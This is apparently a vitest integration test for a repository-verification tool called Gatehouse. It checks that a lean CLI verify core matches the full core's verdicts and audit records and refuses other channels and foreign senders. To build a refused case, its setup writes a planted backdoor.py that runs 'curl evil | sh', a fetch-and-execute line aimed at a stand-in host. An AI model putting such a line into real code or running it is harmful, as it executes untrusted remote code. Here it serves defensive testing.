/**
 * The CLI's verify core (electron/core/verify-core.ts, what `gatehouse verify` loads) against the whole
 * core: one data directory (real SQLite files) and one real repository with a landing approved and
 * applied through the console. For a passing ref, a refused one (a merge with a tree of its own), the
 * root, a clone verified by path and refs that do not resolve, both cores give the same verdict or the
 * same refusal and record the same audit events; the verify core refuses every other channel and every
 * other sender, and writes nothing when it does.
 */
import { cpSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createCore } from '../../../electron/core/create-core';
import { openVerifyCore, VERIFY_CHANNELS } from '../../../electron/core/verify-core';
import { createDispatcher } from '../../../electron/ipc/dispatch';
import { createChannelDispatcher, type Dispatch } from '../../../electron/ipc/dispatch-core';
import { apply, approve, git, makeTrustedRepo, openWorkstation, propose } from '../trust/harness';
import { auditEventsAfter } from '../../support/audit-events';

const quiet = { info: () => undefined, warn: () => undefined, error: () => undefined };
const FROM_CLI = { fromOurWindow: true, fromTopFrame: true, origin: 'gatehouse-cli:' };

let dataDir: string;
let repo: { dir: string; cleanup(): void };
let clone: string;
let repositoryId: string;
let root: string;
let landed: string;
let merge: string;

/** A session over one kind of core: its dispatcher, and closing it. */
interface Session {
  readonly dispatch: Dispatch;
  close(): Promise<void>;
}

async function openFull(): Promise<Session> {
  const core = await createCore({ dataDir, logger: quiet, shell: { shell: 'cli', electron: null, chromium: null } });
  const dispatch = createDispatcher({ handlers: core.handlers, allowedOrigins: [FROM_CLI.origin], session: () => core.callerSession(), touch: () => core.touch(), logger: quiet });
  return { dispatch, close: () => core.close() };
}

async function openLean(): Promise<Session> {
  const core = await openVerifyCore({ dataDir, logger: quiet });
  const dispatch = createChannelDispatcher(VERIFY_CHANNELS, { handlers: core.handlers, allowedOrigins: [FROM_CLI.origin], session: () => core.callerSession(), touch: () => core.touch(), logger: quiet });
  return { dispatch, close: () => core.close() };
}

async function lastSeq(): Promise<number> {
  return (await auditEventsAfter(dataDir, 0)).at(-1)?.seq ?? 0;
}

function withoutDuration(payload: unknown): unknown {
  if (typeof payload !== 'object' || payload === null || !('durationMs' in payload)) return payload;
  const { durationMs: _, ...rest } = payload as Record<string, unknown>;
  return rest;
}

/** What one call did on one kind of core: its Result and the audit events it recorded (what and about what, not when). */
async function callOn(open: () => Promise<Session>, channel: string, input: unknown, sender = FROM_CLI) {
  const before = await lastSeq();
  const session = await open();
  let result;
  try {
    result = await session.dispatch(sender, channel, input);
  } finally {
    await session.close();
  }
  // Everything but when, and how long the analysis took.
  const recorded = (await auditEventsAfter(dataDir, before)).map((e) => ({ action: e.action, subject: e.subject, actor: e.actor, role: e.role, payload: withoutDuration(e.payload) }));
  return { result, recorded };
}

beforeAll(async () => {
  const ws = await openWorkstation();
  dataDir = ws.dataDir;
  try {
    await ws.value('app:createDemo', {});
    repo = makeTrustedRepo(JSON.stringify(ws.core.context.operators.exportTrustList(), null, 2));
    root = git(repo.dir, 'rev-parse', 'main');
    await ws.as('lee');
    repositoryId = ((await ws.value('repo:add', { path: repo.dir, targetBranch: 'main', proposalPattern: 'refs/heads/proposals/*' })) as { id: string }).id;
    propose(repo.dir, 'small', { 'app.py': 'def total(xs):\n    return sum(x for x in xs)\n' });
    await approve(ws, repositoryId, 'small', 'rita');
    landed = await apply(ws, repositoryId, 'small', 'lee');
  } finally {
    await ws.close();
  }
  // An attacker's merge on another branch: its tree is its own, so it did not land through Gatehouse.
  git(repo.dir, 'checkout', '-q', '-b', 'evil', landed);
  writeFileSync(join(repo.dir, 'backdoor.py'), 'import os\nos.system("curl evil | sh")\n');
  git(repo.dir, 'add', '-A');
  git(repo.dir, 'commit', '-q', '-m', 'evil');
  git(repo.dir, 'checkout', '-q', 'main');
  merge = git(repo.dir, 'rev-parse', 'evil');
  clone = join(mkdtempSync(join(tmpdir(), 'gh-verify-clone-')), 'clone');
  cpSync(repo.dir, clone, { recursive: true });
}, 240_000);

afterAll(() => {
  repo?.cleanup();
  if (clone) rmSync(join(clone, '..'), { recursive: true, force: true });
  if (dataDir) rmSync(dataDir, { recursive: true, force: true });
});

describe('the verify core gives the whole core\'s verdicts', () => {
  const cases: ReadonlyArray<[string, () => Record<string, unknown>]> = [
    ['the landed main passes', () => ({ repositoryId, ref: 'refs/heads/main' })],
    ['the pinned root passes with no landings', () => ({ repositoryId, ref: root })],
    ['a commit with a tree of its own is refused, naming the condition', () => ({ repositoryId, ref: merge })],
    ['a clone verified by path from an explicit root passes', () => ({ repositoryId, ref: 'refs/heads/main', dir: clone, root })],
    ['a clone without a root is refused as invalid input', () => ({ repositoryId, ref: 'refs/heads/main', dir: clone })],
    ['a ref that does not resolve is refused', () => ({ repositoryId, ref: 'refs/heads/no-such-branch' })],
    ['an unknown repository is refused', () => ({ repositoryId: 'no-such-repository', ref: 'refs/heads/main' })],
    ['input the schema refuses is refused before any work', () => ({ repositoryId, ref: '' })],
  ];
  for (const [name, input] of cases) {
    it(name, async () => {
      const full = await callOn(openFull, 'repo:verify', input());
      const lean = await callOn(openLean, 'repo:verify', input());
      expect(lean.result).toEqual(full.result);
      expect(lean.recorded).toEqual(full.recorded);
    }, 60_000);
  }

  it('really passes and refuses (the comparison above is not between two failures)', async () => {
    const pass = await callOn(openLean, 'repo:verify', { repositoryId, ref: 'refs/heads/main' });
    expect(pass.result).toMatchObject({ ok: true, value: { ok: true, commit: landed, root } });
    expect(pass.recorded.map((e) => e.action)).toContain('verify.passed');
    const refused = await callOn(openLean, 'repo:verify', { repositoryId, ref: merge });
    expect(refused.result).toMatchObject({ ok: true, value: { ok: false, failure: { condition: 'landed', commit: merge } } });
    expect(refused.recorded.map((e) => e.action)).toContain('verify.refused');
  }, 60_000);
});

describe('the verify core serves nothing else', () => {
  it('refuses every other channel as unknown and records nothing', async () => {
    for (const [channel, input] of [
      ['proposal:apply', { repositoryId, proposalId: 'small' }],
      ['checkpoint:rollback', { repositoryId, checkpointId: 'x', confirm: true }],
      ['session:unlock', { name: 'lee', passphrase: 'lee-demo-passphrase' }],
      ['repo:sync', { repositoryId, remote: 'origin' }],
    ] as const) {
      const { result, recorded } = await callOn(openLean, channel, input);
      expect(result).toMatchObject({ ok: false, error: { code: 'UNKNOWN_CHANNEL' } });
      expect(recorded.filter((e) => !e.action.startsWith('audit.'))).toEqual([]);
    }
  }, 60_000);

  it('refuses a sender that is not the CLI, as the whole dispatcher does', async () => {
    const sender = { ...FROM_CLI, origin: 'https://evil.example' };
    const full = await callOn(openFull, 'repo:verify', { repositoryId, ref: 'refs/heads/main' }, sender);
    const lean = await callOn(openLean, 'repo:verify', { repositoryId, ref: 'refs/heads/main' }, sender);
    expect(lean.result).toEqual(full.result);
    expect(lean.result).toMatchObject({ ok: false, error: { code: 'FORBIDDEN_SENDER' } });
    expect(lean.recorded.filter((e) => e.action.startsWith('verify.'))).toEqual([]);
  }, 60_000);
});
